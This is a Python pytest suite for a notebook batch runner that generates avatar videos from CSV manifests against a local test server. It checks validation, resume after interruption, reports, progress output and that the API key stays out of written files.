"""Batches through papermill: real job-notebook kernels, a real local server on loopback, the journal on disk."""

from __future__ import annotations

import csv
import json
import os
import re
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import httpx
import psutil
import pytest
from PIL import Image

from spark_nb import avatar
from spark_nb._ffmpeg import read_header
from spark_nb.batch import ManifestError, read_manifest, run_batch
from spark_nb.batch._runner import TEMPLATE
from spark_nb.errors import SparkError
from spark_nb.local import LocalServer

from .conftest import TEST_KEY, cloud_config, seed_firing_first
from .test_pipeline import upload

pytestmark = pytest.mark.slow


def write_manifest(folder: Path, rows: list[dict[str, str]]) -> Path:
    """A manifest.csv in folder with the given rows."""
    path = folder / "manifest.csv"
    with path.open("w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=["name", "model", "image", "audio", "driving_video"])
        writer.writeheader()
        for row in rows:
            writer.writerow({"audio": "", "driving_video": "", **row})
    return path


@pytest.fixture
def three_rows(tmp_path: Path, media: dict[str, Path]) -> Path:
    """Two talking avatars (different speech) and one imitation, with paths relative to the manifest."""
    folder = tmp_path / "inputs"
    folder.mkdir()
    for name in ("portrait", "speech", "speech_mp3", "driving"):
        (folder / media[name].name).write_bytes(media[name].read_bytes())
    return write_manifest(folder, [
        {"name": "alice", "model": "avatar", "image": "portrait.jpg", "audio": "speech.wav"},
        {"name": "bob", "model": "spark_avatar_picture_omni_v2", "image": "portrait.jpg", "audio": "speech.mp3"},
        {"name": "carol", "model": "imitator", "image": "portrait.jpg", "driving_video": "driving.mp4"},
    ])


def use_server(monkeypatch: pytest.MonkeyPatch, server: LocalServer) -> None:
    """Job kernels inherit this environment: the cloud path, pointed at the local server, key from the env."""
    monkeypatch.setenv("VTRIX_API_KEY", TEST_KEY)
    monkeypatch.setenv("VTRIX_GENERATION_URL", server.url)
    monkeypatch.setenv("SPARK_NB_BACKEND", "cloud")
    monkeypatch.setenv("SPARK_NB_UPLOAD_URL", f"{server.url}/api/v1/storage/files")


def journal_states(out: Path) -> list[tuple[str, str, str | None]]:
    """(row name, state, task_id) of every journal entry of the batch in out, read as another process would."""
    path = Path(os.environ["SPARK_NB_HOME"]) / "journal.sqlite"
    if not path.exists():
        return []
    db = sqlite3.connect(path, timeout=30)
    try:
        rows = db.execute("SELECT source, state, task_id FROM tasks").fetchall()
    except sqlite3.OperationalError:  # the table is being created
        return []
    finally:
        db.close()
    prefix = f"batch:{out.resolve()}{os.sep}"
    return sorted((source[len(prefix):], state, task_id) for source, state, task_id in rows
                  if source and source.startswith(prefix))


def sent(states: list[tuple[str, str, str | None]]) -> list[str]:
    """The states of the rows whose create was sent (a reservation, inputs uploading, sent nothing yet)."""
    return [state for _, state, _ in states if state != "reserved"]


def assert_key_written_nowhere(folder: Path) -> None:
    """No file under folder contains the API key."""
    for path in folder.rglob("*"):
        if path.is_file():
            assert TEST_KEY.encode() not in path.read_bytes(), f"the key leaked into {path}"


def test_every_manifest_problem_is_reported_before_anything_runs(tmp_path: Path, media: dict[str, Path],
                                                                 make_server: type) -> None:
    """Bad model, missing file, reused and unsafe names, a wrong column: all listed by row, nothing created."""
    server = make_server(api_key=TEST_KEY)
    (tmp_path / "p.jpg").write_bytes(media["portrait"].read_bytes())
    manifest = write_manifest(tmp_path, [
        {"name": "ok", "model": "avatar", "image": "p.jpg", "audio": str(media["speech"])},
        {"name": "ok", "model": "avatar", "image": "p.jpg", "audio": str(media["speech"])},
        {"name": "x", "model": "dancer", "image": "p.jpg"},
        {"name": "y", "model": "avatar", "image": "missing.jpg", "audio": str(media["speech"])},
        {"name": "../z", "model": "imitator", "image": "p.jpg", "driving_video": str(media["driving"]),
         "audio": str(media["speech"])},
        {"name": "w", "model": "imitator", "image": "ftp://example.com/p.jpg", "driving_video": ""},
    ])
    with pytest.raises(ManifestError) as info:
        run_batch(manifest, tmp_path / "out", progress=False)
    problems = info.value.problems
    text = "\n".join(problems)
    assert "row 3: name 'ok' is already used by row 2" in text
    assert "row 4: unknown model 'dancer'" in text
    assert any(p.startswith("row 5: image:") and "no such file" in p for p in problems)
    assert "row 6: name '../z'" in text and "row 6: audio is set but spark_avatar_imitator_v2v" in text
    assert any(p.startswith("row 7: image:") and "ftp" in p for p in problems)
    assert any(p.startswith("row 7: driving_video:") for p in problems)
    assert "nothing was run" in str(info.value)
    assert not (tmp_path / "out").exists()
    stats = server.stats()
    assert stats["created"] == 0 and stats["uploads"] == 0


def test_a_batch_runs_every_row_then_reuses_them(three_rows: Path, tmp_path: Path, make_server: type,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """3 rows complete with notebooks, records, videos, results.csv and a gallery; a rerun creates nothing."""
    server = make_server(api_key=TEST_KEY)
    use_server(monkeypatch, server)
    out = tmp_path / "out"
    outcomes = run_batch(three_rows, out, concurrency=3, progress=False)
    assert [(o.name, o.status) for o in outcomes] == [("alice", "completed"), ("bob", "completed"),
                                                      ("carol", "completed")]
    assert server.stats()["created"] == 3
    with (out / "results.csv").open() as f:
        table = list(csv.DictReader(f))
    assert list(table[0]) == ["name", "model", "task_id", "status", "video", "duration", "cost", "reused", "notebook",
                              "error", "advice"]
    for row, outcome in zip(table, outcomes, strict=True):
        assert row["task_id"] == outcome.task_id and row["task_id"] in server.service.tasks
        assert row["status"] == "completed" and row["cost"] == "0.00" and row["error"] == "" and row["reused"] == ""
        video = out / row["video"]
        assert video.is_file() and read_header(video).duration == pytest.approx(float(row["duration"]), abs=0.1)
        record = json.loads((out / row["name"] / "result.json").read_text())
        assert record["task_id"] == row["task_id"] and record["status"] == "completed"
        executed = json.loads((out / row["notebook"]).read_text())
        assert executed["metadata"]["papermill"]["parameters"]["name"] == row["name"]
        assert "VTRIX_API_KEY" not in json.dumps(executed["metadata"]["papermill"]["parameters"])
    assert table[0]["model"] == table[1]["model"] == "spark_avatar_picture_omni_v2"
    assert table[2]["model"] == "spark_avatar_imitator_v2v"
    gallery = (out / "index.html").read_text()
    for row in table:
        assert f'src="{row["video"]}"' in gallery and f"<h3>{row['name']}</h3>" in gallery
    assert "3 of 3 rows completed" in gallery
    assert_key_written_nowhere(out)

    stamps = {p: p.stat().st_mtime_ns for p in out.glob("*/*.ipynb")}  # the rows' notebooks
    again = run_batch(three_rows, out, concurrency=3, progress=False)
    assert [o.status for o in again] == ["completed"] * 3 and all(o.reused for o in again)
    assert [o.task_id for o in again] == [o.task_id for o in outcomes]
    assert server.stats()["created"] == 3
    assert {p: p.stat().st_mtime_ns for p in out.glob("*/*.ipynb")} == stamps  # no notebook ran again

    # rows an earlier version left (no advice in result.json): the advice is added, no notebook runs again
    notebooks = {p: p.read_bytes() for p in out.glob("*/*.ipynb")}
    for record in out.glob("*/result.json"):
        record.write_text(json.dumps({k: v for k, v in json.loads(record.read_text()).items() if k != "advice"}))
        written = next(record.parent.glob("*.ipynb")).stat().st_mtime_ns - 10**9
        os.utime(record, ns=(written, written))  # as that version left it: written before the notebook ran
    for _ in range(2):
        assert [o.status for o in run_batch(three_rows, out, concurrency=3, progress=False)] == ["completed"] * 3
        assert {p: p.read_bytes() for p in out.glob("*/*.ipynb")} == notebooks
        assert all(json.loads(r.read_text())["advice"] == [] for r in out.glob("*/result.json"))
    assert server.stats()["created"] == 3


def test_a_local_batch_hands_its_server_to_its_kernels_only(three_rows: Path, tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """On the local backend the job kernels reach this process's embedded server with its key, and nothing of it
    stays in os.environ afterwards. The address and key were once written there: every later child (nbval's
    notebook kernels in CI) inherited them and knocked on a stopped server's port with a key no server knew, an
    AuthenticationError in every cell."""
    from spark_nb._backends import SHARED_LOCAL_SERVER, SHARED_LOCAL_SERVER_KEY

    monkeypatch.setenv("SPARK_NB_BACKEND", "local")
    monkeypatch.delenv(SHARED_LOCAL_SERVER, raising=False)
    monkeypatch.delenv(SHARED_LOCAL_SERVER_KEY, raising=False)
    out = tmp_path / "out"
    outcomes = run_batch(three_rows, out, concurrency=2, progress=False)
    assert [o.status for o in outcomes] == ["completed"] * 3, [o.error for o in outcomes]
    for outcome in outcomes:  # the row's notebook ran in a job kernel on the local backend, without an error
        executed = json.loads((out / (outcome.notebook or "")).read_text())
        printed = "".join("".join(o.get("text", "")) for cell in executed["cells"] for o in cell.get("outputs", []))
        assert "backend: local" in printed and f"task: {outcome.task_id}" in printed
    assert SHARED_LOCAL_SERVER not in os.environ and SHARED_LOCAL_SERVER_KEY not in os.environ


def test_job_kernels_check_inputs_with_the_limits_their_batch_checked_them_with(tmp_path: Path) -> None:
    """The attack (fifth round): limits set with configure() in the batch's process did not reach its job kernels,
    so a row the runner passed at max_input_mb=150 was refused at the default 100 MB in its kernel. A child started
    with kernel_environment() now resolves the same limits."""
    import spark_nb
    from spark_nb._backends import kernel_environment

    settings = spark_nb.settings(backend="cloud", api_key=TEST_KEY, max_input_mb=150.3, max_input_seconds=900)
    child = subprocess.run([sys.executable, "-c", "import spark_nb; s = spark_nb.settings(); "
                            "print(s.limits.max_bytes, s.limits.max_seconds)"],
                           env=kernel_environment(settings), capture_output=True, text=True, timeout=60, check=True)
    assert child.stdout.split() == [str(settings.limits.max_bytes), "900.0"], child.stderr


def test_killed_mid_batch_a_rerun_finishes_every_row_creating_each_task_once(
        three_rows: Path, tmp_path: Path, make_server: type, monkeypatch: pytest.MonkeyPatch) -> None:
    """SIGKILL spark-nb batch (and its kernels) while tasks are in flight; the rerun resumes them by id."""
    server = make_server(api_key=TEST_KEY, latency=8)
    use_server(monkeypatch, server)
    out = tmp_path / "out"
    batch = subprocess.Popen([sys.executable, "-m", "spark_nb", "batch", str(three_rows), "--out", str(out),
                              "--concurrency", "3"], start_new_session=True, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 120
        while [state for _, state, _ in journal_states(out)] != ["submitted"] * 3:
            assert batch.poll() is None, "the batch ended before it could be killed"
            assert time.monotonic() < deadline, f"rows never all submitted: {journal_states(out)}"
            time.sleep(0.1)
    finally:
        os.killpg(batch.pid, signal.SIGKILL)  # the whole session: the runner and every job kernel
        batch.wait(timeout=30)
    assert server.stats()["created"] == 3
    assert not any(state == "completed" for _, state, _ in journal_states(out))

    outcomes = run_batch(three_rows, out, concurrency=3, progress=False)
    assert [o.status for o in outcomes] == ["completed"] * 3
    assert server.stats()["created"] == 3
    assert sorted(o.task_id for o in outcomes) == sorted(server.service.tasks)
    assert_key_written_nowhere(out)


def test_ctrl_c_stops_the_batch_at_once_and_a_rerun_finishes_it(
        three_rows: Path, tmp_path: Path, make_server: type, monkeypatch: pytest.MonkeyPatch) -> None:
    """SIGINT (Ctrl-C) with a row still queued: no new task, kernels stopped, reports written; rerun completes."""
    server = make_server(api_key=TEST_KEY, latency=6)
    use_server(monkeypatch, server)
    out = tmp_path / "out"
    # as a shell's foreground job would: SIGINT raises KeyboardInterrupt even if this test runs with it ignored
    script = ("import signal, sys; signal.signal(signal.SIGINT, signal.default_int_handler); "
              "from spark_nb._cli import main; sys.exit(main(sys.argv[1:]))")
    batch = subprocess.Popen([sys.executable, "-c", script, "batch", str(three_rows), "--out", str(out),
                              "--concurrency", "2"], start_new_session=True, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 120
        while sent(journal_states(out)) != ["submitted"] * 2:
            assert batch.poll() is None, "the batch ended before it could be interrupted"
            assert time.monotonic() < deadline, f"rows never submitted: {journal_states(out)}"
            time.sleep(0.1)
        interrupted = time.monotonic()
        os.killpg(batch.pid, signal.SIGINT)
        _, stderr = batch.communicate(timeout=30)
        stopped_in = time.monotonic() - interrupted
    finally:
        if batch.poll() is None:
            os.killpg(batch.pid, signal.SIGKILL)
            batch.wait(timeout=30)
    assert batch.returncode == 130 and "run the same command again" in stderr
    assert stopped_in < 15, f"took {stopped_in:.1f} s to stop"  # not the tasks' 6 s plus the queued row's
    assert server.stats()["created"] == 2  # the queued row never sent its create
    assert [state for _, state, _ in journal_states(out)] == ["submitted"] * 2
    with (out / "results.csv").open() as f:
        assert [row["status"] for row in csv.DictReader(f)] == ["unfinished"] * 3
    assert (out / "index.html").is_file()

    outcomes = run_batch(three_rows, out, concurrency=3, progress=False)
    assert [o.status for o in outcomes] == ["completed"] * 3
    assert server.stats()["created"] == 3
    assert_key_written_nowhere(out)


def test_an_ambiguous_create_is_uncertain_and_resent_only_on_request(
        tmp_path: Path, media: dict[str, Path], make_server: type, monkeypatch: pytest.MonkeyPatch) -> None:
    """create:reset_after makes a task whose id is lost: the row is uncertain, skipped, resent with the flag."""
    server = make_server(api_key=TEST_KEY, faults="create:reset_after:0.5", fault_seed=seed_firing_first(0.5))
    use_server(monkeypatch, server)
    manifest = write_manifest(tmp_path, [{"name": "dana", "model": "avatar", "image": str(media["portrait"]),
                                          "audio": str(media["speech"])}])
    out = tmp_path / "out"
    [first] = run_batch(manifest, out, progress=False)
    assert first.status == "uncertain" and "may have been created" in (first.error or "")
    assert server.stats()["created"] == 1 and journal_states(out) == [("dana", "uncertain", None)]

    [skipped] = run_batch(manifest, out, progress=False)
    assert skipped.status == "uncertain" and "--resubmit-uncertain" in (skipped.error or "")
    assert server.stats()["created"] == 1

    [resent] = run_batch(manifest, out, progress=False, resubmit_uncertain=True)
    assert resent.status == "completed" and resent.video is not None and resent.video.is_file()
    assert server.stats()["created"] == 2  # the lost task plus the one asked for: each create was seen once
    assert_key_written_nowhere(out)


def test_a_refused_create_is_not_uncertain(tmp_path: Path, media: dict[str, Path], make_server: type,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """A create answered 401 created nothing: the row failed, the journal forgets it, the next run submits it."""
    server = make_server(api_key=TEST_KEY)
    use_server(monkeypatch, server)
    urls = {}
    for field, name in (("image", "portrait"), ("audio", "speech")):  # URL inputs: no upload, so create says 401
        with media[name].open("rb") as f:
            answer = httpx.post(f"{server.url}/api/v1/storage/files", files={"file": (media[name].name, f)},
                                headers={"Authorization": f"Bearer {TEST_KEY}"})
        urls[field] = answer.raise_for_status().json()["url"]
    monkeypatch.setenv("VTRIX_API_KEY", "sk-wrong-key")
    manifest = write_manifest(tmp_path, [{"name": "fay", "model": "avatar", **urls}])
    out = tmp_path / "out"
    [refused] = run_batch(manifest, out, progress=False)
    assert refused.status == "failed" and refused.task_id is None and "key" in (refused.error or "").lower()
    assert journal_states(out) == [] and server.stats()["created"] == 0

    monkeypatch.setenv("VTRIX_API_KEY", TEST_KEY)
    [done] = run_batch(manifest, out, progress=False)
    assert done.status == "completed" and server.stats()["created"] == 1
    assert_key_written_nowhere(out)


def test_a_failing_row_makes_the_cli_exit_non_zero(tmp_path: Path, media: dict[str, Path], make_server: type,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """A task failing with a service code: status failed, its error in results.csv, exit code 1."""
    server = make_server(api_key=TEST_KEY, faults="render:097:1")
    use_server(monkeypatch, server)
    manifest = write_manifest(tmp_path, [{"name": "erin", "model": "avatar", "image": str(media["portrait"]),
                                          "audio": str(media["speech"])}])
    out = tmp_path / "out"
    done = subprocess.run([sys.executable, "-m", "spark_nb", "batch", str(manifest), "--out", str(out)],
                          check=False, capture_output=True, text=True, timeout=300)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "0 completed, 1 failed" in done.stdout
    with (out / "results.csv").open() as f:
        [row] = list(csv.DictReader(f))
    assert row["status"] == "failed" and "097" in row["error"] and row["task_id"]
    assert_key_written_nowhere(out)
    assert TEST_KEY not in done.stdout + done.stderr
    # quiet: the kernel that ran the row said nothing (ipykernel warns once per kernel on TCP transport)
    assert not [line for line in done.stderr.splitlines() if "IPKernelApp" in line or "WARNING" in line], done.stderr

    # 097 is the service's own failure: the next run tries a new task (an input error would be reported again)
    [again] = run_batch(manifest, out, progress=False)
    assert again.status == "failed" and again.task_id != row["task_id"]
    assert server.stats()["created"] == 2


def test_the_job_notebook_alone_records_its_task_and_resumes_it(tmp_path: Path, media: dict[str, Path],
                                                                make_server: type,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """Run by papermill without a batch: task.json, result.json, inputs beside the result; run again, it resumes."""
    import papermill

    server = make_server(api_key=TEST_KEY)
    use_server(monkeypatch, server)
    out = tmp_path / "job"
    parameters = {"model": "imitator",
                  "inputs": {"image": str(media["portrait"]), "driving_video": str(media["driving"])},
                  "name": "solo", "out_dir": str(out)}
    for run in (1, 2):
        papermill.execute_notebook(str(TEMPLATE), str(tmp_path / f"run{run}.ipynb"), parameters=parameters,
                                   kernel_name="python3", progress_bar=False)
        recorded = json.loads((out / "task.json").read_text())
        record = json.loads((out / "result.json").read_text())
        assert record["status"] == "completed" and record["task_id"] == recorded["task_id"]
        assert record["model"] == "spark_avatar_imitator_v2v" and (out / record["video"]).is_file()
        assert record["duration"] > 0 and record["cost"] == "0.00" and record["error"] is None
        assert server.stats()["created"] == 1  # the second run resumed the recorded task
    report = json.loads((tmp_path / "run2.ipynb").read_text())
    side_by_side = "".join(o.get("data", {}).get("text/html", "") if isinstance(o.get("data", {}).get("text/html"), str)
                           else "".join(o.get("data", {}).get("text/html", [])) for o in report["cells"][-1]["outputs"])
    assert "display:flex" in side_by_side and "<img" in side_by_side and side_by_side.count("<video") == 2
    assert_key_written_nowhere(tmp_path)


def test_a_manifest_missing_columns_is_refused_naming_them(tmp_path: Path, media: dict[str, Path],
                                                           make_server: type, monkeypatch: pytest.MonkeyPatch) -> None:
    """Without a required column the header (row 1) is named; without `audio`, every avatar row is."""
    server = make_server(api_key=TEST_KEY)
    use_server(monkeypatch, server)
    no_model = tmp_path / "no_model.csv"
    no_model.write_text(f"name,image,audio\na,{media['portrait']},{media['speech']}\n")
    with pytest.raises(ManifestError) as info:
        run_batch(no_model, tmp_path / "out", progress=False)
    assert info.value.problems == ["row 1: missing column(s) model; the columns are name, model, image, audio, "
                                   "driving_video"]
    no_audio = tmp_path / "no_audio.csv"
    no_audio.write_text(f"name,model,image\na,avatar,{media['portrait']}\nb,avatar,{media['portrait']}\n")
    with pytest.raises(ManifestError) as info:
        run_batch(no_audio, tmp_path / "out", progress=False)
    assert [p.split(":")[0] for p in info.value.problems] == ["row 2", "row 3"]
    assert all("audio" in p for p in info.value.problems)
    assert not (tmp_path / "out").exists()
    assert server.stats()["created"] == 0 and server.stats()["uploads"] == 0


def test_an_upper_case_scheme_is_a_url_in_generate_and_in_a_manifest(tmp_path: Path, media: dict[str, Path],
                                                                    server: LocalServer) -> None:
    """`HTTP://…` is the same URL to generate() and to a manifest (once it was joined onto the manifest's folder)."""
    image, audio = (upload(server, media[name]).replace("http://", "HTTP://", 1) for name in ("portrait", "speech"))
    assert image.startswith("HTTP://127.0.0.1:")
    result = avatar.generate(image, audio, progress=False, **cloud_config(server))
    assert result.path.is_file() and server.stats()["uploads"] == 2  # the two above: generate() uploaded nothing
    manifest = write_manifest(tmp_path, [{"name": "shouting", "model": "avatar", "image": image, "audio": audio}])
    (row,) = read_manifest(manifest)
    assert row.inputs == {"image": image, "audio": audio}


# -- invalid rows: refused by default, skipped on request; the bar and the summary line -------------------------


def mixed_rows(folder: Path) -> Path:
    """Two valid rows (the bundled samples: one avatar, one imitation) and two invalid ones between them: an
    unnamed row whose image is missing (row 3) and a text file posing as a JPEG (row 4)."""
    from spark_nb import samples

    (folder / "notes.jpg").write_text("just some notes, not a picture\n")
    return write_manifest(folder, [
        {"name": "alice", "model": "avatar", "image": str(samples.PORTRAIT), "audio": str(samples.SPEECH)},
        {"name": "", "model": "avatar", "image": "missing.jpg", "audio": str(samples.SPEECH)},
        {"name": "textual", "model": "imitator", "image": "notes.jpg", "driving_video": str(samples.DRIVING_VIDEO)},
        {"name": "carol", "model": "imitator", "image": str(samples.PORTRAIT),
         "driving_video": str(samples.DRIVING_VIDEO)},
    ])


def batch_cli(manifest: Path, out: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """`python -m spark_nb batch manifest --out out [args]`, its output captured (the bar goes to stderr)."""
    return subprocess.run([sys.executable, "-m", "spark_nb", "batch", str(manifest), "--out", str(out), *args],
                          check=False, capture_output=True, text=True, timeout=300)


def bar_states(stderr: str) -> list[str]:
    """Every state the batch's bar drew, in order (tqdm redraws its line after a carriage return)."""
    return [state.strip() for state in re.split(r"[\r\n]", stderr) if state.strip()]


def test_invalid_rows_refuse_the_whole_manifest_by_default(tmp_path: Path, make_server: type,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """Without --skip-invalid a missing file and a text file posing as an image are both listed; nothing runs."""
    server = make_server(api_key=TEST_KEY)
    use_server(monkeypatch, server)
    manifest = mixed_rows(tmp_path)
    with pytest.raises(ManifestError) as info:
        run_batch(manifest, tmp_path / "out", progress=False)
    problems = info.value.problems
    assert any(p.startswith("row 3: image:") and "no such file" in p and "missing.jpg" in p for p in problems), problems
    assert any(p.startswith("row 4: image:") and "could not be decoded as an image" in p for p in problems), problems
    assert "row 3: name ''" in "\n".join(problems)
    assert not any(p.startswith(("row 2:", "row 5:")) for p in problems)  # the valid rows have none
    assert "--skip-invalid" in str(info.value)  # the way to run the valid rows anyway
    assert not (tmp_path / "out").exists()
    assert server.stats()["created"] == 0 and server.stats()["uploads"] == 0


def test_skip_invalid_runs_the_valid_rows_and_lists_the_others(tmp_path: Path, make_server: type,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """spark-nb batch --skip-invalid: one task per valid row, exit 0; each skipped row in results.csv, rows.json
    and the gallery with its reasons and row number (the unnamed one as row3), in the manifest's order."""
    server = make_server(api_key=TEST_KEY, longest_side=128)
    use_server(monkeypatch, server)
    manifest = mixed_rows(tmp_path)
    out = tmp_path / "out"
    done = batch_cli(manifest, out, "--skip-invalid")
    assert done.returncode == 0, done.stdout + done.stderr
    assert server.stats()["created"] == 2
    with (out / "results.csv").open() as f:
        table = {row["name"]: row for row in csv.DictReader(f)}
    assert list(table) == ["alice", "row3", "textual", "carol"]
    assert [table[n]["status"] for n in table] == ["completed", "skipped", "skipped", "completed"]
    assert table["row3"]["error"].startswith("row 3: name ''")
    assert "no such file" in table["row3"]["error"] and "missing.jpg" in table["row3"]["error"]
    assert table["textual"]["error"].startswith("row 4: image:")
    assert "could not be decoded as an image" in table["textual"]["error"]
    assert all(table[n]["task_id"] == "" and table[n]["video"] == "" for n in ("row3", "textual"))
    assert (out / table["alice"]["video"]).is_file() and (out / table["carol"]["video"]).is_file()
    assert not (out / "row3").exists() and not (out / "textual").exists()  # a skipped row has no folder
    rows = {row["name"]: row for row in json.loads((out / "rows.json").read_text())["rows"]}
    assert {n: rows[n]["status"] for n in rows} == {n: table[n]["status"] for n in table}
    assert rows["textual"]["error"] == table["textual"]["error"] and rows["textual"]["task_id"] is None
    gallery = (out / "index.html").read_text()
    assert "2 of 4 rows completed · 2 skipped (invalid in the manifest)" in gallery
    for name, reason in (("row3", "row 3: name &#x27;&#x27;"), ("textual", "row 4: image: character image could")):
        card = gallery.split(f"<h3>{name}</h3>", 1)[1].split('<div class="card">', 1)[0]
        assert re.search('<span class="skipped"[^>]*>skipped</span>', card)
        assert "not run: invalid in the manifest" in card
        assert reason in card, card
    summary_line = "2 completed, 0 failed, 0 uncertain, 2 skipped (invalid) of 4 rows; spent by this run: $0.00"
    assert done.stdout.splitlines()[-1] == summary_line
    assert "skipped 2" in bar_states(done.stderr)[-1]


def test_skip_invalid_with_no_valid_row_left_refuses_the_manifest(tmp_path: Path, make_server: type,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """run_batch(skip_invalid=True) on a manifest whose every row is invalid: ManifestError, no task, no folder."""
    server = make_server(api_key=TEST_KEY)
    use_server(monkeypatch, server)
    manifest = mixed_rows(tmp_path)
    with manifest.open() as f:
        invalid = [row for row in csv.DictReader(f) if row["name"] not in ("alice", "carol")]
    write_manifest(tmp_path, invalid)
    with pytest.raises(ManifestError) as info:
        run_batch(manifest, tmp_path / "out", progress=False, skip_invalid=True)
    assert sorted({p.split(":")[0] for p in info.value.problems}) == ["row 2", "row 3"]
    assert "no row is valid" in str(info.value)
    assert not (tmp_path / "out").exists()
    assert server.stats()["created"] == 0 and server.stats()["uploads"] == 0


def test_the_cli_shows_one_bar_then_one_summary_line(tmp_path: Path, make_server: type,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """stderr holds the bar's states only (done, failed, pending, the spend so far), quiet kernels; stdout ends
    with the summary, whose spend is the sum of the rows' costs."""
    from spark_nb import samples

    server = make_server(api_key=TEST_KEY, longest_side=128, cost_per_second=0.25)
    use_server(monkeypatch, server)
    manifest = write_manifest(tmp_path, [
        {"name": "alice", "model": "avatar", "image": str(samples.PORTRAIT), "audio": str(samples.SPEECH)},
        {"name": "carol", "model": "imitator", "image": str(samples.PORTRAIT),
         "driving_video": str(samples.DRIVING_VIDEO)},
    ])
    out = tmp_path / "out"
    done = batch_cli(manifest, out, "--concurrency", "1")
    assert done.returncode == 0, done.stdout + done.stderr
    with (out / "results.csv").open() as f:
        costs = [float(row["cost"]) for row in csv.DictReader(f)]
    spent = f"${sum(costs):.2f}"
    assert all(cost > 0 for cost in costs) and spent != "$0.00"
    states = bar_states(done.stderr)
    assert states and all(state.startswith("batch: ") for state in states), done.stderr  # nothing but the bar
    assert states[0].endswith("done 0, failed 0, pending 2, spent $0.00]")
    assert any("1/2 [" in state and "done 1, failed 0, pending 1, spent $" in state for state in states), states
    assert states[-1].startswith("batch: 100%")
    assert states[-1].endswith(f"done 2, failed 0, pending 0, spent {spent}]")
    assert done.stdout.splitlines()[-1] == f"2 completed, 0 failed, 0 uncertain of 2 rows; spent by this run: {spent}"
    assert len(done.stdout.splitlines()) == 2  # where the reports are, then the summary: no line per row
    assert not [line for line in done.stderr.splitlines() if "IPKernelApp" in line or "WARNING" in line]


def test_the_bar_and_summary_count_every_status_and_spend_only_what_ran() -> None:
    """Failed, uncertain, unfinished and skipped rows are counted; a reused video's cost is not spent again."""
    from spark_nb.batch import RowOutcome, RowStatus, summary
    from spark_nb.batch._progress import BatchProgress

    outcomes = [RowOutcome("a", "m", RowStatus.COMPLETED, cost="1.25"),
                RowOutcome("b", "m", RowStatus.COMPLETED, cost="0.50", reused=True),
                RowOutcome("c", "m", RowStatus.FAILED), RowOutcome("d", "m", RowStatus.UNCERTAIN),
                RowOutcome("e", "m", RowStatus.COMPLETED, cost="0.10")]
    with BatchProgress(6, skipped=2, enabled=False) as bar:
        assert bar.text() == "done 0, failed 0, pending 6, skipped 2, spent $0.00"
        for outcome in outcomes:
            bar.add(outcome)
        assert bar.text() == "done 3, failed 1, uncertain 1, pending 1, skipped 2, spent $1.35"
    skipped = RowOutcome("row7", "dancer", RowStatus.SKIPPED, error="row 7: unknown model 'dancer'")
    unfinished = RowOutcome("f", "m", RowStatus.UNFINISHED)
    assert summary([*outcomes, unfinished, skipped]) == (
        "3 completed, 1 failed, 1 uncertain, 1 unfinished (run again to resume), 1 skipped (invalid) "
        "of 7 rows; spent by this run: $1.35 (1 row reused from earlier runs)")


# -- the gallery's media: everything inside the batch folder, referenced relatively -----------------------------


def gallery_refs(page: str) -> list[str]:
    """Every src and href in a gallery page, unescaped."""
    import html as html_module

    return [html_module.unescape(ref) for ref in re.findall(r'(?:src|href)="([^"]*)"', page)]


def assert_refs_stay_inside(out: Path, page: str) -> None:
    """Every local ref is relative, resolves to a file inside out, and no absolute path is in the page."""
    from urllib.parse import unquote

    refs = gallery_refs(page)
    assert refs
    for ref in refs:
        if ref.startswith(("http://", "https://")) or ref in ("results.csv", "gallery.ipynb"):  # written beside it
            continue
        assert not ref.startswith("/") and ":" not in ref and ".." not in ref.split("/"), ref
        target = (out / unquote(ref)).resolve()
        assert target.is_relative_to(out.resolve()) and target.is_file(), ref
    assert str(out.resolve().parent) not in page and str(Path.home()) not in page


@pytest.mark.timeout(60)
def test_the_gallery_brings_outside_media_into_the_folder(tmp_path: Path, media: dict[str, Path]) -> None:
    """Inputs and a video from outside the folder end up in out/media (hard links here), all refs relative."""
    from spark_nb import samples
    from spark_nb.batch._outcome import RowOutcome, RowStatus
    from spark_nb.batch._report import write_gallery

    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    video = elsewhere / "earlier.mp4"
    video.write_bytes(media["driving"].read_bytes())
    out = tmp_path / "batch"
    (out / "inside").mkdir(parents=True)
    own = out / "inside" / "own video.mp4"
    own.write_bytes(media["driving"].read_bytes())
    outcomes = [
        RowOutcome("a", "spark_avatar_picture_omni_v2", RowStatus.COMPLETED, video=video,
                   inputs={"image": str(samples.PORTRAIT), "audio": str(samples.SPEECH)}),
        RowOutcome("b", "spark_avatar_imitator_v2v", RowStatus.COMPLETED, video=own,
                   inputs={"image": str(media["portrait"]), "driving_video": str(samples.DRIVING_VIDEO)}),
        RowOutcome("c", "spark_avatar_imitator_v2v", RowStatus.FAILED, error="no",
                   inputs={"image": "https://example.com/p.jpg", "driving_video": str(tmp_path / "gone.mp4")}),
    ]
    page = write_gallery(out, outcomes).read_text()
    assert_refs_stay_inside(out, page)
    copies = sorted(p.name for p in (out / "media").iterdir())
    assert len(copies) == 5, copies  # the sample portrait, speech, driving video; the test portrait; the video
    assert not [name for name in copies if name.startswith(".")]  # no half-written files left
    linked = next((out / "media").glob("earlier-*.mp4"))
    assert linked.stat().st_ino == video.stat().st_ino  # the same file system: a hard link, not a copy
    assert "inside/own%20video.mp4" in page  # a file already inside is used where it is
    assert 'src="https://example.com/p.jpg"' in page
    assert "gone.mp4" in page and page.count("<video") == 3  # a missing input is named, not shown
    # the note names gallery.ipynb without linking it: followed in JupyterLab's sandboxed viewer a link got a 403
    assert "<b>gallery.ipynb</b>" in page and 'href="gallery.ipynb"' not in page
    stamps = {p: p.stat().st_mtime_ns for p in (out / "media").iterdir()}
    assert write_gallery(out, outcomes).read_text() == page
